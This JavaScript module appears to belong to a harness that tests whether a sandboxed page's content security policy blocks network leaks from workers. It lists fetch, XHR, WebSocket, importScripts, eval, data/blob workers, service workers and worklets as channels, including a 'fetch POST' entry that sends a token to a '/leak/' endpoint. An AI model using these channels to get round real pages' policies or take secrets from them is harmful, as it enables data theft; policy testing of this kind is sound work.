// Threads: a blob's script inherits the policy of the document that made it, and
// the vault needs such a worker for its engine.

import { blob } from "./put.js";

/** @typedef {import("./channels.js").To} To */

/** Keeps workers alive. @type {unknown[]} */
const kept = [];

/** What a worker does, told to it as text. @type {{[name: string]: (to: To) => string}} */
const inside = {
  "fetch": ({ url }) => `fetch("${url()}", {mode: "no-cors"})`,
  "fetch POST": ({ base, token }) => `fetch("${base}/leak/", {method: "POST", mode: "no-cors", body: "${token}"})`,
  "XHR": ({ url }) => `x = new XMLHttpRequest(); x.open("GET", "${url()}"); x.send()`,
  "XHR synchronous": ({ url }) => `x = new XMLHttpRequest(); x.open("GET", "${url()}", false); x.send()`,
  "WebSocket": ({ url }) => `new WebSocket("${url().replace("http:", "ws:")}")`,
  "WebSocketStream": ({ url }) => `new WebSocketStream("${url().replace("http:", "ws:")}")`,
  "EventSource": ({ url }) => `new EventSource("${url()}")`,
  "WebTransport": ({ named }) => `new WebTransport("${named.replace("http:", "https:")}")`,
  "importScripts": ({ url }) => `importScripts("${url("js")}")`,
  "importScripts of data": ({ url }) => `importScripts("data:text/javascript,fetch('${url()}',{mode:'no-cors'})")`,
  "import()": ({ url }) => `import("${url("js")}")`,
  "eval": ({ url }) => `eval('fetch("${url()}", {mode: "no-cors"})')`,
  "FontFace": ({ url }) => `new FontFace("x", "url(${url("woff2")})").load()`,
  "worker in it": ({ url }) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url()}", {mode: "no-cors"})'])))`,
  "worker by address in it": ({ url }) => `new Worker("${url("js")}")`,
};

/** @type {import("./channels.js").Channel[]} */
export const workers = [
  ...Object.entries(inside).map(([name, source]) => ({
    name: "worker " + name,
    ...(name === "worker by address in it" && { only: /** @type {"own"} */ ("own") }),
    ...(name === "FontFace" && { never: "Chromium fetches no font for a thread that draws nothing" }),
    /** @param {To} to */
    run: (to) => void kept.push(new Worker(blob(source(to)))),
  })),
  { name: "worker module import", run: ({ url }) => void kept.push(new Worker(blob(`import "${url("js")}"`), { type: "module" })) },
  { name: "worker of data", run: ({ url }) => void kept.push(new Worker(`data:text/javascript,fetch("${url()}",{mode:"no-cors"})`)) },
  { name: "worker by address", run: ({ url }) => void kept.push(new Worker(url("js"))), only: "own" },
  { name: "shared worker", run: ({ url }) => void kept.push(new SharedWorker(blob(`fetch("${url()}", {mode: "no-cors"})`))) },
  { name: "shared worker of data", run: ({ url }) => void kept.push(new SharedWorker(`data:text/javascript,fetch("${url()}",{mode:"no-cors"})`)), never: "Chromium starts none" },
  { name: "shared worker by address", run: ({ url }) => void kept.push(new SharedWorker(url("js"))), only: "own" },
  { name: "service worker", run: ({ url, base }) => navigator.serviceWorker.register(url("js"), { scope: base + "/leak/" }), only: "own" },
  { name: "audio worklet", run: ({ url }) => new AudioContext().audioWorklet.addModule(url("js")) },
  { name: "audio worklet of a blob", run: ({ url }) => new AudioContext().audioWorklet.addModule(blob(`import "${url("js")}"`)) },
  // @ts-ignore: Chromium's
  { name: "shared storage worklet", run: ({ url }) => sharedStorage.createWorklet(url("js"), { dataOrigin: "script-origin" }), never: "not in this Chromium" },
];
